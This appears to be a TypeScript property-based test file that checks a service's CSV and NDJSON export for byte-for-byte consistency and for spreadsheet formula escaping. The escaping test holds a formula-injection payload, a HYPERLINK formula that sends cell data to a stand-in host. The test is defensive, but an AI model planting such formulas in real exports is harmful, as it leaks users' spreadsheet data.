import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { exportRecords } from '#core/export/export.ts';
import { createFileRows } from '#core/store/blocks/query/file-rows.ts';
import type { CsvStyle, StoredRecord, Value } from '#core/store/store.ts';
import type { FileFormat } from '#shared/domain/file-formats.ts';
import { FIRST_RECORD_TIME, LAST_RECORD_TIME, parseInstant } from '#shared/values/time.ts';
import { createZonedText } from '#core/base/zoned-time.ts';
import { cellBatches } from '../../helpers/store/cell-batches.ts';

/* Files are written from cells where records lie in blocks, and record by record where they do not: byte for byte the same. */

const KEYS = ['a', 'b', 'ä "q"', '__proto__', '0', 'a\nb', '\ud800'];

const value: fc.Arbitrary<Value> = fc.oneof(
  fc.boolean(),
  fc.constantFrom(0, -0, 1, -1, 0.1, 21.25, 1e21, 1e-7, 5e-324, 1.7976931348623157e308, 2 ** 53, 123456.789),
  fc.integer({ min: -1_000_000, max: 1_000_000 }).map((n) => n / 100),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(
    '',
    '"',
    '""',
    'a"b',
    'a,b',
    'two\r\nlines',
    '\ud800',
    '☃',
    'x'.repeat(64),
    '"'.repeat(64),
    'y'.repeat(65),
    '=1+1',
    '-',
    `@${'z'.repeat(63)}`,
  ),
  fc.string({ unit: 'binary', maxLength: 80 }),
);
const time = fc.oneof(
  fc.integer({ min: 0, max: 5 }),
  fc.integer({ min: 1_700_000_000_000_000, max: 1_700_000_900_000_000 }),
  fc.integer({ min: FIRST_RECORD_TIME, max: LAST_RECORD_TIME }),
);
const record = fc
  .record({
    timestamp: time,
    data: fc.uniqueArray(fc.tuple(fc.constantFrom(...KEYS), value), {
      selector: ([key]) => key,
      minLength: 1,
    }),
  })
  .map(({ timestamp, data }): StoredRecord => {
    // As a store hands records out: keys in the order of their code units.
    const sorted = data.toSorted(([a], [b]) => (a < b ? -1 : 1));
    return { timestamp, received: 0, keys: sorted.map(([key]) => key), values: sorted.map(([, one]) => one) };
  });

/** Records of several uploads, whose times may overlap, in their order; `at once`: rows that are read in one go. */
function fromCells(
  uploads: readonly (readonly StoredRecord[])[],
  format: FileFormat,
  keys: readonly string[],
  atOnce: number,
  style?: CsvStyle,
): string {
  const file = createFileRows({ format, keys, style });
  const pieces: Buffer[] = [];
  for (const batch of cellBatches(uploads, keys, atOnce)) {
    file.add(batch);
    pieces.push(file.take());
  }
  return Buffer.concat([...pieces, file.take()]).toString('latin1');
}

async function fromRecords(
  uploads: readonly (readonly StoredRecord[])[],
  format: FileFormat,
  keys: readonly string[],
  style?: CsvStyle,
): Promise<string> {
  const records = uploads.flat().toSorted((a, b) => a.timestamp - b.timestamp);
  async function* scan() {
    yield records;
  }
  const pieces: Uint8Array[] = [];
  for await (const { bytes } of exportRecords({ scan: scan(), keys, format, style })) pieces.push(bytes);
  return Buffer.concat(pieces).toString('latin1');
}

test.each(['csv', 'ndjson'] as const)('%s from cells is that from records, byte for byte', async (format) => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.array(record, { minLength: 1, maxLength: 30 }), { maxLength: 4 }),
      fc.shuffledSubarray([...KEYS, 'a key that no record has']),
      fc.constantFrom(1, 3, 1000),
      async (uploads, keys, atOnce) => {
        expect(fromCells(uploads, format, keys, atOnce)).toBe(await fromRecords(uploads, format, keys));
      },
    ),
    { numRuns: 1000, seed: 4 },
  );
});

/** How a CSV file may be written. */
const styleOf = (keys: readonly string[]): fc.Arbitrary<CsvStyle> =>
  fc.record({
    delimiter: fc.constantFrom(';', '\t', '|'),
    mark: fc.constantFrom('.', ','),
    zone: fc.constantFrom(null, 'Europe/Berlin', 'America/St_Johns', 'Asia/Kathmandu', 'Africa/Monrovia'),
    names: fc.constant(keys.map((key) => `${key} (°C)`)),
    preface: fc.constantFrom('', '# note 2026-03-02T20:30:21Z "app": warm\r\n'),
    escapesFormulas: fc.boolean(),
  });

test('CSV in any style is that from records, byte for byte, and every local time is its instant', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.array(record, { minLength: 1, maxLength: 30 }), { maxLength: 4 }),
      fc.shuffledSubarray(KEYS).chain((keys) => fc.tuple(fc.constant(keys), styleOf(keys))),
      fc.constantFrom(1, 1000),
      async (uploads, [keys, style], atOnce) => {
        expect(fromCells(uploads, 'csv', keys, atOnce, style)).toBe(
          await fromRecords(uploads, 'csv', keys, style),
        );
      },
    ),
    { numRuns: 500, seed: 5 },
  );
  const zoned = createZonedText('Africa/Monrovia');
  fc.assert(
    fc.property(time, (instant) => {
      expect(parseInstant(zoned(instant))).toBe(instant);
    }),
  );
});

test('times of one minute after another, to the µs, are those that all of the service writes', async () => {
  const records = Array.from({ length: 3000 }, (_, n): StoredRecord => ({
    timestamp: 1_700_000_000_000_000 + n * 20_000_001,
    received: 0,
    keys: ['a'],
    values: [n],
  }));
  for (const format of ['csv', 'ndjson'] as const)
    expect(fromCells([records], format, ['a'], 1024)).toBe(await fromRecords([records], format, ['a']));
});

test.each([
  ['=HYPERLINK("http://example.org/?"&B2,"ok")', `"'=HYPERLINK(""http://example.org/?""&B2,""ok"")"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['idle = no', '"idle = no"'],
])(
  'a formula, %j, is a text to a spreadsheet where that was asked for, and data otherwise',
  (text, field) => {
    const uploads = [[{ timestamp: 0, received: 0, keys: ['a'], values: [text] }]];
    const style: CsvStyle = {
      delimiter: ',',
      mark: '.',
      zone: null,
      names: ['=a'],
      preface: '',
      escapesFormulas: true,
    };
    expect(fromCells(uploads, 'csv', ['a'], 1, style)).toBe(
      `timestamp,"'=a"\r\n1970-01-01T00:00:00.000000Z,${field}\r\n`,
    );
    expect(fromCells(uploads, 'csv', ['a'], 1)).toContain(`"${text.replaceAll('"', '""')}"`);
  },
);
